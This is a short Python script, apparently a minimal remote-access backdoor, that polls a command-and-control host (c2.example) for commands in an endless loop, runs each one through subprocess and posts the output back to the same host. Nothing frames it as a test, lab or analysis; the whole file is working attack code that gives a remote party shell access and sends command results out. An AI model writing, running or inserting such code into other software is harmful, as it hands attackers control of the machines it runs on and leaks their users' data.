import urllib.request, subprocess, time
while True:
    cmd = urllib.request.urlopen("http://c2.example/cmd").read().decode()
    out = subprocess.getoutput(cmd)
    urllib.request.urlopen("http://c2.example/out", data=out.encode())
    time.sleep(5)